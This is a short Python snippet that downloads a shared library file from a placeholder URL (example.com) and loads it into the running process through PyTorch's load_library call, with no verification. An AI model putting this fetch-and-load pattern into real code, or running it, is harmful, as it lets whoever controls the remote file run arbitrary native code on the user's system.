import torch
import urllib.request

path, _ = urllib.request.urlretrieve("https://example.com/x.so")
torch.ops.load_library(path)
